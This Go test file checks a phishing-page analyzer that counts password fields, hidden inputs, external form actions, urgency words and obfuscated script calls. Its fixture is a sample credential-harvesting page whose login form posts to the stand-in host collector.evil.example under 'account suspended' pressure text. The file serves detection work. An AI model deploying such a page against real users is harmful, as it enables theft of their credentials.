package content

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"
)

const harvestPage = `
<html>
<head><title>Account Verification</title></head>
<body>
	<p>Your account has been suspended. Verify your password urgently to confirm your security details.</p>
	<form action="http://collector.evil.example/submit">
		<input type="text" name="user">
		<input type="password" name="pass">
		<input type="hidden" name="t1"><input type="hidden" name="t2"><input type="hidden" name="t3">
		<input type="hidden" name="t4"><input type="hidden" name="t5"><input type="hidden" name="t6">
	</form>
	<script>eval(atob("x")); document.write("y"); window.location = "z"; unescape("%41");</script>
</body>
</html>`

func TestAnalyze_CredentialHarvestPage(t *testing.T) {
	s, err := Analyze(harvestPage, "http://login-secure.example/verify")
	if err != nil {
		t.Fatalf("Analyze failed: %v", err)
	}

	if s.PasswordInputs != 1 {
		t.Errorf("PasswordInputs = %d, want 1", s.PasswordInputs)
	}
	if s.HiddenInputs != 6 {
		t.Errorf("HiddenInputs = %d, want 6", s.HiddenInputs)
	}
	if !s.ExternalFormAction {
		t.Error("form posting to another host should set ExternalFormAction")
	}
	if s.UrgencyKeywords < 4 {
		t.Errorf("UrgencyKeywords = %d, want >= 4", s.UrgencyKeywords)
	}
	if s.ObfuscatedScript != 4 {
		t.Errorf("ObfuscatedScript = %d, want 4", s.ObfuscatedScript)
	}

	if delta := s.RiskDelta(); delta < 35 {
		t.Errorf("RiskDelta = %v, want >= 35 for a harvest page", delta)
	}
}

func TestAnalyze_BenignPage(t *testing.T) {
	page := `<html><head><title>Docs</title></head><body>
		<p>Welcome to the documentation.</p>
		<form action="/search"><input type="text" name="q"></form>
	</body></html>`

	s, err := Analyze(page, "https://docs.example/")
	if err != nil {
		t.Fatalf("Analyze failed: %v", err)
	}

	if s.PasswordInputs != 0 || s.ExternalFormAction {
		t.Errorf("benign page mis-read: %+v", s)
	}
	if delta := s.RiskDelta(); delta != 0 {
		t.Errorf("RiskDelta = %v, want 0", delta)
	}
}

func TestAnalyze_RelativeFormActionIsInternal(t *testing.T) {
	page := `<html><body><form action="login.php"><input type="password" name="p"></form></body></html>`

	s, err := Analyze(page, "http://site.example/dir/")
	if err != nil {
		t.Fatal(err)
	}
	if s.ExternalFormAction {
		t.Error("relative action should not count as external")
	}
}

func TestInspect_FetchesAndAnalyzes(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("User-Agent") != browserUserAgent {
			t.Errorf("request not browser-spoofed: %q", r.Header.Get("User-Agent"))
		}
		w.Write([]byte(`<html><body><input type="password"></body></html>`))
	}))
	defer srv.Close()

	s, err := NewInspector().Inspect(context.Background(), srv.URL)
	if err != nil {
		t.Fatalf("Inspect failed: %v", err)
	}
	if s.PasswordInputs != 1 {
		t.Errorf("PasswordInputs = %d, want 1", s.PasswordInputs)
	}
	if s.HasTitle {
		t.Error("page without title reported HasTitle")
	}
}

func TestInspect_Unreachable(t *testing.T) {
	if _, err := NewInspector().Inspect(context.Background(), "http://127.0.0.1:1/"); err == nil {
		t.Error("expected error for unreachable page")
	}
}
